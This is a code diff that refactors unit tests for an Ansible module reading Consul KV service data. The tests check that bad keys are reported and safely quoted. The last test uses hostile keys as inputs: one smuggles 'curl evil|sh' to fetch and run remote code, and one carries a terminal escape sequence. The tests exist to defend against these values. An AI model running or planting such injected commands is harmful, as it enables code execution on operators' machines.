@@ -4,31 +4,19 @@
 
 from __future__ import annotations
 
-import base64
 import typing as t
 
 import pytest
 
 from ansible_collections.longshore.fleet.plugins.module_utils._stories.release.info import read_services
+from tests.unit.consul_model import ConsulModel
 
 NOTE = b'{"release": "r-1", "action": "replace", "when": "then", "result": "done"}'
 
 
-class Kv:
-    """The KV's keys below one service, as an answer of Consul has them."""
-
-    def __init__(self, path: str, value: bytes) -> None:
-        pairs = [("nodes/n2/web", NOTE), (path, value)]
-        self.entries = [
-            {"Key": f"longshore/services/web/{p}", "Value": base64.b64encode(v).decode(), "CreateIndex": 1, "Flags": 0}
-            for p, v in pairs
-        ]
-
-    def get_trees(self, _paths: t.Any) -> t.Any:
-        return [self.entries]
-
-    def get(self, _path: str, _params: t.Any = ()) -> t.Any:
-        return self.entries
+def spoilt(path: str, value: bytes) -> t.Any:
+    """Return a Consul with a good note and one key, below one service."""
+    return ConsulModel({f"longshore/services/web/{key}": v for key, v in (("nodes/n2/web", NOTE), (path, value))})
 
 
 @pytest.mark.parametrize(
@@ -46,7 +34,7 @@ class Kv:
     ],
 )
 def test_a_key_that_somebody_has_spoilt_is_told_and_hides_no_other(path: str, value: bytes) -> None:
-    told = read_services(t.cast("t.Any", Kv(path, value)), "longshore")["web"].told()
+    told = read_services(spoilt(path, value), "longshore")["web"].told()
     assert len(told["problems"]) == 1
     key = f"longshore/services/web/{path}"
     assert key in told["problems"][0]
@@ -55,19 +43,8 @@ def test_a_key_that_somebody_has_spoilt_is_told_and_hides_no_other(path: str, va
 
 
 def test_a_lock_that_somebody_has_spoilt_is_a_free_one() -> None:
-    told = read_services(t.cast("t.Any", Kv("lock", b"[" * 100000)), "longshore")["web"].told()
+    told = read_services(spoilt("lock", b"[" * 100000), "longshore")["web"].told()
     assert (told["problems"], told["lock"], told["session"]) == ([], "", "")
-
-
-class Tree:
-    """A KV with keys of several prefixes; it answers as Consul does to ``recurse``."""
-
-    def __init__(self, *keys: str) -> None:
-        self.keys = keys
-
-    def get(self, path: str, _params: t.Any = ()) -> t.Any:
-        below = [key for key in self.keys if key.startswith(path.removeprefix("kv/"))]
-        return [{"Key": key, "Value": base64.b64encode(key.encode()).decode()} for key in below] or None
 
 
 @pytest.mark.parametrize(
@@ -84,7 +61,7 @@ def test_each_service_is_read_below_its_own_prefix(
     service: str | None, elsewhere: dict[str, str], found: dict[str, str]
 ) -> None:
     keys = ("fleet/a/services/web", "fleet/a/services/other", "longshore/services/db", "longshore/services/web")
-    kv = t.cast("t.Any", Tree(*(f"{key}/current" for key in keys)))
+    kv = t.cast(t.Any, ConsulModel({f"{key}/current": f"{key}/current".encode() for key in keys}))
     told = {name: info.told() for name, info in read_services(kv, "longshore", service, elsewhere).items()}
     assert {name: info["prefix"] for name, info in told.items()} == found
     assert {name: info["current"] for name, info in told.items()} == {
@@ -93,8 +70,8 @@ def test_each_service_is_read_below_its_own_prefix(
 
 
 def test_a_key_that_somebody_has_made_for_a_shell_or_a_terminal_harms_neither() -> None:
-    told = read_services(t.cast("t.Any", Kv("nodes/x; curl evil|sh/web", b"")), "longshore")["web"].told()
+    told = read_services(spoilt("nodes/x; curl evil|sh/web", b""), "longshore")["web"].told()
     assert told["problems"][0].endswith("(consul kv delete 'longshore/services/web/nodes/x; curl evil|sh/web').")
-    told = read_services(t.cast("t.Any", Kv("releases/r\x1b[2J\nnode1: none", b"{}")), "longshore")["web"].told()
+    told = read_services(spoilt("releases/r\x1b[2J\nnode1: none", b"{}"), "longshore")["web"].told()
     assert told["problems"][0].isprintable()
     assert r"(consul kv delete $'longshore/services/web/releases/r\x1b[2J\nnode1: none')" in told["problems"][0]
